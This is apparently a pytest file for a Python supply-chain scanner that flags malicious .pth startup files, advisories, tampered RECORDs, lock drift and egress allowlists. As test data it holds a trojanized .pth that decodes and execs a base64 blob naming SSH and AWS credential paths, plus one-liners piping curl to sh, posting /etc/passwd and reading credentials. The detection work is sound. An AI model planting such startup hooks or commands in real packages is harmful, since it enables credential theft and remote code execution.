"""relayguard doctor, piece by piece: the .pth judge, the environment scan, advisories,
RECORD hashes, the lock comparison, key-file permissions and the egress check.

Nothing here starts an interpreter of an inspected environment, and no planted
payload is ever executed: the "malicious" code below is data for the judge, and
what it would do if run is harmless anyway (write a marker file)."""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import os
import sys
import zlib
from pathlib import Path

import orjson
import pytest
from hypothesis import given, settings, strategies as st

from relayguard.doctor import Problem, advisories, checks, envscan, pth, record
from relayguard.doctor.cli import run
from relayguard.errors import ConfigError

PY = f"python{sys.version_info.major}.{sys.version_info.minor}"

# What a trojanized .pth looks like (modelled on litellm_init.pth): start a process that
# decodes and runs a base64 blob.  The blob's code reads credential paths and the network
# only in appearance; run, it would write a marker file and nothing else.
PAYLOAD = ("import os, urllib.request\n"
           "targets = ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.kube/config', '.env']\n"
           "req = urllib.request.Request('http://127.0.0.1:9/collect')\n"
           "open(os.environ.get('RG_DOCTOR_MARKER', os.devnull), 'w').write('payload ran')\n")
BLOB = base64.b64encode(PAYLOAD.encode()).decode()
MALICIOUS_PTH = ("import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
                 f"'import base64; exec(base64.b64decode(\"{BLOB}\"))'])\n")

# The standard harmless kinds, in the shapes their tools write them.
DISTUTILS_PTH = ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
                 "enabled and __import__('_distutils_hack').add_shim(); \n")
DISTUTILS_HACK = '''"""Shim for the standard library distutils (shape of setuptools' _distutils_hack)."""
import os
import sys


def enabled():
    return os.environ.get("SETUPTOOLS_USE_DISTUTILS", "local") == "local"


class DistutilsMetaFinder:
    def find_spec(self, fullname, path, target=None):
        method = getattr(self, "spec_for_" + fullname, lambda: None)
        return method()

    def spec_for_distutils(self):
        import importlib
        import importlib.abc
        import importlib.util
        try:
            mod = importlib.import_module("setuptools._distutils")
        except Exception:
            return None
        return importlib.util.spec_from_loader("distutils", None, origin=mod.__file__)


DISTUTILS_FINDER = DistutilsMetaFinder()


def add_shim():
    DISTUTILS_FINDER in sys.meta_path or sys.meta_path.insert(0, DISTUTILS_FINDER)
'''
EDITABLE_PTH = "import __editable___fakepkg_1_0_finder; __editable___fakepkg_1_0_finder.install()\n"
EDITABLE_FINDER = '''import sys
from importlib.machinery import ModuleSpec, PathFinder
from importlib.machinery import all_suffixes as module_suffixes
from importlib.util import spec_from_file_location
from itertools import chain
from pathlib import Path

MAPPING = {'fakepkg': '/src/fakepkg/fakepkg'}
NAMESPACES = {}
PATH_PLACEHOLDER = '__editable__.fakepkg-1.0.finder' + ".__path_hook__"


class _EditableFinder:
    @classmethod
    def find_spec(cls, fullname, path=None, target=None):
        if fullname in MAPPING:
            candidate = Path(MAPPING[fullname])
            for c in chain([candidate / "__init__.py"], (candidate.with_suffix(x) for x in module_suffixes())):
                if c.exists():
                    return spec_from_file_location(fullname, c)
        parent, _, child = fullname.rpartition(".")
        if parent and parent in MAPPING:
            return PathFinder.find_spec(fullname, path=[MAPPING[parent]])
        return None


def install():
    if not any(finder == _EditableFinder for finder in sys.meta_path):
        sys.meta_path.append(_EditableFinder)
'''
VIRTUALENV_PTH = "import _virtualenv"
VIRTUALENV_MODULE = '''"""Patches applied at runtime to the virtual environment (shape of virtualenv's _virtualenv.py)."""
import os
import sys

VIRTUALENV_PATCH_FILE = os.path.abspath(__file__)
_DISTUTILS_PATCH = "distutils.dist", "setuptools.dist"


class _Finder:
    fullname = None
    lock = []

    def find_spec(self, fullname, path, target=None):
        if fullname in _DISTUTILS_PATCH and self.fullname is None:
            if len(self.lock) == 0:
                import threading
                self.lock.append(threading.Lock())
            from functools import partial
            from importlib.util import find_spec
            with self.lock[0]:
                self.fullname = fullname
                try:
                    spec = find_spec(fullname, path)
                    if spec is not None:
                        func_name = "exec_module" if hasattr(spec.loader, "exec_module") else "load_module"
                        old = getattr(spec.loader, func_name)
                        setattr(spec.loader, func_name, partial(self.exec_module, old))
                        return spec
                finally:
                    self.fullname = None
        return None

    @staticmethod
    def exec_module(old, module):
        old(module)


sys.meta_path.insert(0, _Finder())
'''
NSPKG_PTH = ("import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1)"
             ".f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and "
             "__import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util."
             "module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or "
             "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault("
             "'__path__',[]);(p not in mp) and mp.append(p)\n")


def judge(line: str) -> list[str]:
    judged = pth.judge_source(line, in_pth=True)
    assert judged is not None
    return judged.reasons()


def make_site(tmp_path: Path) -> tuple[Path, Path]:
    """A bare virtual environment's layout, made by hand (no interpreter involved)."""
    venv = tmp_path / "venv"
    site = venv / "lib" / PY / "site-packages"
    site.mkdir(parents=True)
    (venv / "bin").mkdir()
    (venv / "pyvenv.cfg").write_text(f"home = /usr/bin\ninclude-system-site-packages = false\n"
                                     f"version = {sys.version_info.major}.{sys.version_info.minor}.0\n")
    return venv, site


def add_dist(site: Path, name: str, version: str, files: dict[str, str]) -> Path:
    """A distribution installed the way an installer leaves it: files, METADATA and a RECORD."""
    info = site / f"{name.replace('-', '_')}-{version}.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    rows = []
    for rel, text in files.items():
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        rows.append(f"{rel},sha256={digest},{len(text.encode())}")
    meta = (info / "METADATA").read_text()
    digest = base64.urlsafe_b64encode(hashlib.sha256(meta.encode()).digest()).rstrip(b"=").decode()
    rows += [f"{info.name}/METADATA,sha256={digest},{len(meta)}", f"{info.name}/RECORD,,"]
    (info / "RECORD").write_text("\n".join(rows) + "\n")
    return info


# --------------------------------------------------------------------------- the .pth judge


def test_litellm_style_pth_is_flagged_with_what_it_does():
    reasons = " ".join(judge(MALICIOUS_PTH))
    assert "starts processes" in reasons and "subprocess.Popen" in reasons
    assert "encoded blob" in reasons and "decodes to Python" in reasons
    assert "uses the network" in reasons and "touches credentials" in reasons and "writes files" in reasons


@pytest.mark.parametrize("line", [DISTUTILS_PTH, EDITABLE_PTH, VIRTUALENV_PTH, NSPKG_PTH,
                                  "import coverage; coverage.process_startup()",
                                  "import os; os.environ.get('X') and __import__('sys').path.insert(0, 'y')"])
def test_standard_import_lines_are_harmless(line):
    assert judge(line) == []


@pytest.mark.parametrize("line,expected", [
    ("import os; os.system('curl http://x | sh')", "starts processes"),
    ("import os as o; o.popen('id')", "starts processes"),
    ("from subprocess import Popen as P; P(['id'])", "starts processes"),
    ("import socket; socket.create_connection(('1.2.3.4', 80))", "uses the network"),
    ("import urllib.request as u; u.urlopen('http://x')", "uses the network"),
    ("import requests; requests.post('http://x', data=open('/etc/passwd').read())", "uses the network"),
    ("import os, json; json.dumps(dict(os.environ))", "reads the whole environment"),
    ("import os; x = os.environ.copy()", "reads the whole environment"),
    ("from os import environ; list(environ.items())", "reads the whole environment"),
    ("import os; print(os.environ.get('AWS_SECRET_ACCESS_KEY'))", "touches credentials"),
    ("import os; open(os.path.expanduser('~/.ssh/id_ed25519')).read()", "touches credentials"),
    ("import os; open('/tmp/x', 'w').write('y')", "writes files"),
    ("import pathlib; pathlib.Path('/tmp/x').write_text('y')", "writes files"),
    ("import marshal; marshal.loads(b'')", "decodes or unpacks data"),
    ("import codecs; codecs.decode('vzcbeg bf', 'rot13')", "decodes or unpacks data"),
    ("import sys; exec(sys.argv[0])", "runs code built at run time"),
    ("import sys; eval(compile('1', 'x', 'eval'))", "runs code"),
    ("import builtins; getattr(builtins, 'ex' + 'ec')('1')", "hides what it calls"),
    ("import importlib; importlib.import_module('sub' + 'process')", "hides what it imports"),
    ("import threading; threading.Thread(target=print).start()", "starts threads"),
    ("import ctypes; ctypes.CDLL('libc.so.6')", "loads native code"),
    ("import os; list(os.walk(os.path.expanduser('~')))", "lists directories"),
    ("import os; exec('import subprocess; subprocess.run([\"id\"])')", "starts processes"),
    ("import zlib, base64; exec(zlib.decompress(base64.b64decode('"
     + base64.b64encode(zlib.compress(b"import socket; socket.socket()")).decode() + "')))", "uses the network"),
])
def test_harmful_import_lines(line, expected):
    reasons = judge(line)
    assert any(expected in r for r in reasons), reasons


def test_nested_encoded_layers_are_followed_without_running_them():
    inner = "import socket; socket.socket()"
    layer = inner
    for _ in range(3):
        layer = f"import base64; exec(base64.b64decode('{base64.b64encode(layer.encode()).decode()}'))"
    reasons = " ".join(judge(layer))
    assert "uses the network" in reasons, reasons


def test_hex_and_plain_long_constants():
    assert any("encoded blob" in r for r in judge(f"import sys; x = '{os.urandom(40).hex()}'"))
    # a long path-like string is not a blob
    assert judge("import sys; sys.path.append('/opt/some/really/long/path/to/a/vendored/source/tree/of/the/project')") \
        == []


def test_judge_pth_file_by_content_not_name(tmp_path):
    _, site = make_site(tmp_path)
    evil = site / "distutils-precedence.pth"  # a standard name, reused by an attacker
    evil.write_text(MALICIOUS_PTH)
    assert pth.judge_pth(evil, [site])
    good = site / "litellm_init.pth"  # a notorious name, harmless content: judged by content too
    good.write_text("# a comment\n\n" + str(tmp_path) + "\n")
    assert pth.judge_pth(good, [site]) == []


def test_modules_imported_by_a_pth_are_judged(tmp_path):
    _, site = make_site(tmp_path)
    (site / "_virtualenv.pth").write_text(VIRTUALENV_PTH)
    (site / "_virtualenv.py").write_text(VIRTUALENV_MODULE)
    (site / "distutils-precedence.pth").write_text(DISTUTILS_PTH)
    (site / "_distutils_hack").mkdir()
    (site / "_distutils_hack" / "__init__.py").write_text(DISTUTILS_HACK)
    (site / "__editable__.fakepkg-1.0.pth").write_text(EDITABLE_PTH)
    (site / "__editable___fakepkg_1_0_finder.py").write_text(EDITABLE_FINDER)
    problems, count = pth.scan_site_dir(site, [site])
    assert (problems, count) == ([], 3)
    # the same .pth, with a finder module that carries a payload at import time
    (site / "__editable___fakepkg_1_0_finder.py").write_text(
        EDITABLE_FINDER + "\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'cat ~/.aws/credentials'])\n")
    problems, _ = pth.scan_site_dir(site, [site])
    assert [p.kind for p in problems] == ["pth"]
    assert "__editable___fakepkg_1_0_finder" in problems[0].detail and "starts processes" in problems[0].detail
    # a module the finder imports at its top level is followed too
    (site / "__editable___fakepkg_1_0_finder.py").write_text("import _helper\n" + EDITABLE_FINDER)
    (site / "_helper.py").write_text("import socket\nsocket.create_connection(('203.0.113.1', 443))\n")
    problems, _ = pth.scan_site_dir(site, [site])
    assert "_helper" in problems[0].detail and "uses the network" in problems[0].detail


def test_pth_lines_follow_site_rules(tmp_path):
    # only lines *starting* with "import " or "import\t" run; "\r" ends a line as in universal newlines
    lines = pth._pth_lines(b"  import os; os.system('x')\r#import os\rimport\tsys\n\nimportlib\n")
    assert lines == [(1, "  import os; os.system('x')"), (3, "import\tsys"), (5, "importlib")]
    _, site = make_site(tmp_path)
    f = site / "x.pth"
    f.write_text("  import os; os.system('never runs: not at the start of the line')\n")
    assert pth.judge_pth(f, [site]) == []


def test_world_writable_path_entry(tmp_path):
    _, site = make_site(tmp_path)
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    (site / "extra.pth").write_text(f"{shared}\n")
    problems, _ = pth.scan_site_dir(site, [site])
    assert problems and "world-writable" in problems[0].detail


def test_sitecustomize_is_judged(tmp_path):
    _, site = make_site(tmp_path)
    (site / "sitecustomize.py").write_text("import os\nos.environ.setdefault('LANG', 'C.UTF-8')\n")
    assert pth.scan_site_dir(site, [site])[0] == []
    (site / "sitecustomize.py").write_text("import os, json\njson.dump(dict(os.environ), open('/tmp/e', 'w'))\n")
    problems, _ = pth.scan_site_dir(site, [site])
    assert [p.kind for p in problems] == ["startup"] and "reads the whole environment" in problems[0].detail


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_judge_never_raises(text):
    pth.judge_source("import " + text, in_pth=True)
    pth._pth_lines(text.encode("utf-8", "surrogatepass"))


# --------------------------------------------------------------------------- environment scan


def test_envscan_reads_pyvenv_cfg_without_running_anything(tmp_path):
    venv, site = make_site(tmp_path)
    marker = tmp_path / "interpreter-ran"
    python = venv / "bin" / "python"
    python.write_text(f"#!/bin/sh\ntouch {marker}\n")
    python.chmod(0o755)
    add_dist(site, "fakepkg", "1.0", {"fakepkg/__init__.py": "X = 1\n"})
    env = envscan.from_python(str(python))
    assert env.site_dirs == [site] and env.venv
    assert [(d.name, d.version) for d in env.distributions] == [("fakepkg", "1.0")]
    assert envscan.from_python(str(venv)).site_dirs == [site]  # the venv directory works too
    assert not marker.exists()


def test_envscan_includes_base_when_asked(tmp_path):
    base = tmp_path / "base"
    base_site = base / "lib" / PY / "site-packages"
    base_site.mkdir(parents=True)
    venv, site = make_site(tmp_path)
    (venv / "pyvenv.cfg").write_text(f"home = {base / 'bin'}\ninclude-system-site-packages = true\n"
                                     f"version_info = {sys.version_info.major}.{sys.version_info.minor}.3\n")
    (venv / "bin" / "python").write_text("")
    assert envscan.from_python(str(venv / "bin" / "python")).site_dirs == [site, base_site]


def test_envscan_errors(tmp_path):
    with pytest.raises(ConfigError, match="no such file"):
        envscan.from_python(str(tmp_path / "nope"))
    (tmp_path / "v" / "bin").mkdir(parents=True)
    (tmp_path / "v" / "pyvenv.cfg").write_text("version = 3.11.1\n")
    (tmp_path / "v" / "bin" / "python").write_text("")
    with pytest.raises(ConfigError, match="no site-packages"):
        envscan.from_python(str(tmp_path / "v" / "bin" / "python"))


def test_current_environment_is_found():
    env = envscan.current()
    assert env.site_dirs and env.find("orjson") is not None


# --------------------------------------------------------------------------- advisories


def test_bundled_advisories_include_litellm():
    adv = advisories.load()
    assert adv.updated >= "2026-03-24"
    lite = [a for a in adv.advisories if a.package == "litellm"]
    assert lite and lite[0].affects("LiteLLM", "1.82.7") and lite[0].affects("litellm", "1.82.8")
    assert not lite[0].affects("litellm", "1.82.6")
    assert "litellm_init.pth" in lite[0].indicators
    assert all(a.published and a.summary for a in adv.advisories)


def test_advisory_file_merges_and_overrides(tmp_path):
    extra = tmp_path / "adv.json"
    extra.write_text(json.dumps({"updated": "2099-01-01", "advisories": [
        {"id": "MAL-2026-2144", "package": "litellm", "versions": ["9.9.9"], "published": "2026-03-24",
         "summary": "replaced"},
        {"id": "LOCAL-1", "package": "evil-pkg", "versions": "*", "published": "2099-01-01", "summary": "x"}]}))
    adv = advisories.load(str(extra))
    assert adv.updated == "2099-01-01"
    lite = [a for a in adv.advisories if a.package == "litellm"]
    assert len(lite) == 1 and lite[0].affects("litellm", "9.9.9") and not lite[0].affects("litellm", "1.82.7")
    assert any(a.affects("Evil_Pkg", "0.0.1") for a in adv.advisories)
    extra.write_text('{"advisories": [{"id": "x"}]}')
    with pytest.raises(ConfigError, match="malformed"):
        advisories.load(str(extra))
    extra.write_text("not json")
    with pytest.raises(ConfigError, match="not JSON"):
        advisories.load(str(extra))


def test_advisory_check_finds_release_and_indicator(tmp_path):
    venv, site = make_site(tmp_path)
    add_dist(site, "litellm", "1.82.7", {"litellm/__init__.py": ""})
    (site / "litellm_init.pth").write_text("")
    env = envscan.from_python(str(venv))
    problems = advisories.check(env, advisories.load())
    assert sorted(Path(p.path).name for p in problems) == ["litellm-1.82.7.dist-info", "litellm_init.pth"]
    assert all(p.kind == "advisory" and "MAL-2026-2144" in p.detail for p in problems)


# --------------------------------------------------------------------------- RECORD


def test_record_detects_modified_missing_and_planted_files(tmp_path):
    venv, site = make_site(tmp_path)
    add_dist(site, "fakepkg", "1.0", {"fakepkg/__init__.py": "X = 1\n", "fakepkg/core.py": "def f():\n    pass\n",
                                      "fakepkg/data.txt": "d"})
    env = envscan.from_python(str(venv))
    dist = env.find("fakepkg")
    assert dist is not None
    recorded = record.recorded_paths(env.distributions)
    assert record.verify(dist, recorded) == ([], 4)
    (site / "fakepkg" / "core.py").write_text("import os; os.system('id')\n")
    (site / "fakepkg" / "data.txt").unlink()
    (site / "fakepkg" / "extra.py").write_text("")
    (site / "fakepkg" / "__pycache__").mkdir()
    (site / "fakepkg" / "__pycache__" / "core.cpython-311.pyc").write_bytes(b"")
    problems, _ = record.verify(dist, recorded)
    got = {Path(p.path).name: p.detail for p in problems}
    assert set(got) == {"core.py", "data.txt", "extra.py"}
    assert "modified after installation" in got["core.py"] and "missing" in got["data.txt"]
    assert "no RECORD lists" in got["extra.py"]


def test_record_absent(tmp_path):
    venv, site = make_site(tmp_path)
    info = add_dist(site, "fakepkg", "1.0", {"fakepkg/__init__.py": ""})
    (info / "RECORD").unlink()
    problems, _ = record.verify(envscan.from_python(str(venv)).distributions[0])
    assert problems and "no RECORD" in problems[0].detail


def test_record_hex_digests_and_system_packages(tmp_path):
    """Debian writes hex digests in RECORD, and strips binaries after: its dist-packages without an
    INSTALLER file are left to dpkg; a hex RECORD elsewhere is still checked."""
    base = tmp_path / "usr"
    site = base / "lib" / "python3" / "dist-packages"
    site.mkdir(parents=True)
    info = add_dist(site, "debpkg", "1.0", {"debpkg/__init__.py": "X = 1\n"})
    rows = [line.split(",") for line in (info / "RECORD").read_text().splitlines()]
    hexed = []
    for path, digest, size in rows:
        if digest:
            raw = base64.urlsafe_b64decode(digest.split("=", 1)[1] + "==")
            digest = "sha256=" + raw.hex()
        hexed.append(",".join((path, digest, size)))
    (info / "RECORD").write_text("\n".join(hexed) + "\n")
    dist = envscan.distributions([site])[0]
    assert record.system_managed(dist)
    assert record.verify(dist) == ([], 2)  # hex digests match
    (site / "debpkg" / "__init__.py").write_text("X = 2\n")
    assert [Path(p.path).name for p in record.verify(dist)[0]] == ["__init__.py"]
    (info / "INSTALLER").write_text("pip\n")  # pip-installed into dist-packages: RECORD is the installer's
    assert not record.system_managed(dist)


# --------------------------------------------------------------------------- lock, permissions, egress


def write_lock(path: Path, packages: dict[str, str]) -> Path:
    body = 'version = 1\nrequires-python = ">=3.11"\n\n' + "".join(
        f'[[package]]\nname = "{n}"\nversion = "{v}"\nsource = {{ registry = "https://pypi.org/simple" }}\n\n'
        for n, v in packages.items())
    path.write_text(body)
    return path


def test_lock_comparison(tmp_path):
    venv, site = make_site(tmp_path)
    add_dist(site, "fakepkg", "1.0", {"fakepkg/__init__.py": ""})
    add_dist(site, "Other_Pkg", "2.0", {"other_pkg/__init__.py": ""})
    add_dist(site, "sneaky", "0.1", {"sneaky/__init__.py": ""})
    lock = write_lock(tmp_path / "uv.lock", {"fakepkg": "1.0", "other-pkg": "1.5"})
    report = checks.Report(envscan.from_python(str(venv)))
    checks.check_lock(report.environment, str(lock), report)
    got = {Path(p.path).name: p.detail for p in report.problems}
    assert set(got) == {"Other_Pkg-2.0.dist-info", "sneaky-0.1.dist-info"}
    assert "pins 1.5" in got["Other_Pkg-2.0.dist-info"] and "outside the lock" in got["sneaky-0.1.dist-info"]
    (tmp_path / "bad.lock").write_text("[[[")
    with pytest.raises(ConfigError):
        checks.check_lock(report.environment, str(tmp_path / "bad.lock"), report)


def test_project_lock_is_found_for_the_project_venv(tmp_path):
    root = Path(__file__).resolve().parents[2]
    if not (root / ".venv" / "pyvenv.cfg").is_file():
        pytest.skip("no project .venv (run uv sync)")
    env = envscan.from_python(str(root / ".venv"))
    assert checks.find_project_lock(env) == root / "uv.lock"
    # a venv beside some project's lock, without relayguard in it (a tool venv): no lock is assumed
    project = tmp_path / "project"
    venv, site = make_site(project)
    (project / "uv.lock").write_text((root / "uv.lock").read_text())
    assert checks.find_project_lock(envscan.from_python(str(venv))) is None
    add_dist(site, "relayguard", "0.1.0", {"relayguard/__init__.py": ""})
    assert checks.find_project_lock(envscan.from_python(str(venv))) == project / "uv.lock"


def test_key_file_permissions(tmp_path):
    vault = tmp_path / "relayguard"
    vault.mkdir(mode=0o700)
    for name in ("vault.key", "vault.db", "guard-log.sqlite.key", "notes.txt", "id"):
        (vault / name).write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n" if name == "id" else "x")
        (vault / name).chmod(0o600)
    report = checks.Report(envscan.current())
    checks.check_permissions(vault, report)
    assert report.problems == []
    (vault / "vault.key").chmod(0o644)
    (vault / "id").chmod(0o640)
    (vault / "notes.txt").chmod(0o644)  # not a key: nothing to say
    checks.check_permissions(vault, report)
    got = {Path(p.path).name: p for p in report.problems}
    assert set(got) == {"vault.key", "id"} and all(p.kind == "permissions" for p in got.values())
    assert "everyone" in got["vault.key"].detail and "chmod 600" in got["vault.key"].detail


def test_egress_allowlist(tmp_path):
    cfg = tmp_path / "gateway.toml"
    report = checks.Report(envscan.current())
    cfg.write_text('[[provider]]\nname = "openai"\nbase_url = "https://api.openai.com/v1"\n')
    checks.check_egress(str(cfg), report)
    assert report.problems == []  # no allowlist defined: nothing to compare
    cfg.write_text('[egress]\nallow = ["api.openai.com", "*.anthropic.com:443"]\n'
                   '[[provider]]\nname = "openai"\nbase_url = "https://api.openai.com/v1"\n'
                   '[[provider]]\nname = "anthropic"\nbase_url = "https://api.anthropic.com"\n')
    checks.check_egress(str(cfg), report)
    assert report.problems == []
    cfg.write_text('[egress]\nallow = ["api.openai.com", "exfil.example.net", "*"]\n'
                   '[[provider]]\nname = "openai"\nbase_url = "https://api.openai.com/v1"\n'
                   '[[provider]]\nname = "local"\nbase_url = "http://127.0.0.1:1234/v1"\n')
    checks.check_egress(str(cfg), report)
    details = [p.detail for p in report.problems]
    assert all(p.kind == "egress" for p in report.problems)
    assert any("exfil.example.net" in d and "no configured provider" in d for d in details)
    assert any("'*'" in d and "far more" in d for d in details)
    # 127.0.0.1 is allowed by "*", so only the two allowlist problems
    assert len(details) == 2


# --------------------------------------------------------------------------- run() end to end


def _args(**kw: object) -> argparse.Namespace:
    base = dict(python=None, all_records=False, lock=None, advisories=None, vault_dir=None, gateway_config=None,
                json=True)
    base.update(kw)
    return argparse.Namespace(**base)


def test_run_reports_json_and_exit_codes(tmp_path, capsys):
    venv, site = make_site(tmp_path)
    (tmp_path / "vault").mkdir()
    assert run(_args(python=str(venv), vault_dir=str(tmp_path / "vault"))) == 0
    assert orjson.loads(capsys.readouterr().out) == {"ok": True, "problems": []}
    (site / "zz.pth").write_text(MALICIOUS_PTH)
    assert run(_args(python=str(venv), vault_dir=str(tmp_path / "vault"))) == 1
    out = orjson.loads(capsys.readouterr().out)
    assert out["ok"] is False and [p["kind"] for p in out["problems"]] == ["pth"]
    assert run(_args(python=str(venv), vault_dir=str(tmp_path / "vault"), json=False)) == 1
    text = capsys.readouterr().out
    assert "zz.pth" in text and "1 problem found." in text
    with pytest.raises(ConfigError):
        run(_args(python=str(tmp_path / "missing")))


def test_problem_json_shape():
    assert Problem("pth", "/x", "y").to_json() == {"kind": "pth", "path": "/x", "detail": "y"}
